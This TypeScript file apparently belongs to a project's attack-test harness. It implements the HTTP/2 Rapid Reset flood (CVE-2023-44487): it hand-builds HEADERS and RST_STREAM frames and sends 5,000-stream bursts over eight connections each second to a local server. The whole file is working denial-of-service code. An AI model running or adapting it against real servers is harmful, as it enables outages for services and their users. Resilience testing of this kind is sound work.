import { constants } from "node:http2";
import { connect, type TcpNetConnectOpts } from "node:net";
import { setTimeout as wait } from "node:timers/promises";
import { frame, frameType, opening, uint32 } from "../test/support/net/http2-frames.ts";
import type { AttackJob } from "./attacker.ts";
import { type Counts, count } from "./repeat.ts";

const connections = 8;
const resets = 5_000;
const timeoutMs = 15_000;

/** Opens eight HTTP/2 connections that each open and cancel 5,000 streams in one burst (CVE-2023-44487). Repeats this. */
export async function rapidReset({ port, address, seconds }: AttackJob): Promise<Counts> {
  const counts: Counts = {};
  const burst = resetBurst(port);
  const target = { host: "127.0.0.1", port, ...(address !== undefined && { localAddress: address }) };
  const endsAt = performance.now() + seconds * 1_000;
  while (performance.now() < endsAt) {
    const startedAt = performance.now();
    await Promise.all(Array.from({ length: connections }, () => sendBurst(target, burst, counts)));
    await wait(Math.max(0, startedAt + 1_000 - performance.now()));
  }
  return counts;
}

// Resolves when the server has closed the connection or has acknowledged the PING after the last reset.
function sendBurst(target: TcpNetConnectOpts, burst: Buffer, counts: Counts): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect(target);
    let outcome = "closed by the server";
    let received = Buffer.alloc(0);
    socket.setTimeout(timeoutMs, () => end("timeout"));
    socket.on("error", () => {});
    socket.on("data", (part: Buffer) => {
      received = Buffer.concat([received.subarray(-pong.length), part]);
      if (received.includes(pong)) end("every reset accepted");
    });
    socket.once("close", () => {
      count(counts, outcome);
      resolve();
    });
    socket.write(burst);

    function end(result: string): void {
      outcome = result;
      socket.destroy();
    }
  });
}

const payload = Buffer.from("lastping");
const pong = frame(frameType.ping, 1, 0, payload);

/** Returns the bytes of one burst (RFC 9113): the preface, all streams with their resets, and a PING. */
function resetBurst(port: number): Buffer {
  const headers = headerBlock(port);
  const cancel = uint32(constants.NGHTTP2_CANCEL);
  const frames = [opening];
  for (let n = 0; n < resets; n++) {
    const stream = 2 * n + 1;
    // The flag 4 is END_HEADERS. Without END_STREAM, a body would follow.
    frames.push(frame(frameType.headers, 4, stream, headers), frame(frameType.rstStream, 0, stream, cancel));
  }
  frames.push(frame(frameType.ping, 0, 0, payload));
  return Buffer.concat(frames);
}

// Indexes in the static table of HPACK (RFC 7541, appendix A). The first two are complete headers, the others are names.
const hpack = {
  postMethod: [0x83],
  httpScheme: [0x86],
  authority: [0x01],
  path: [0x04],
  contentType: [0x0f, 0x10],
};

// Returns headers in HPACK. Names are indexes of the static table, values are literals.
function headerBlock(port: number): Buffer {
  const value = (text: string) => [text.length, ...Buffer.from(text)];
  return Buffer.from([
    ...hpack.postMethod,
    ...hpack.httpScheme,
    ...hpack.authority,
    ...value(`127.0.0.1:${port}`),
    ...hpack.path,
    ...value("/latchkey.v1.SessionService/SignUp"),
    ...hpack.contentType,
    ...value("application/json"),
  ]);
}
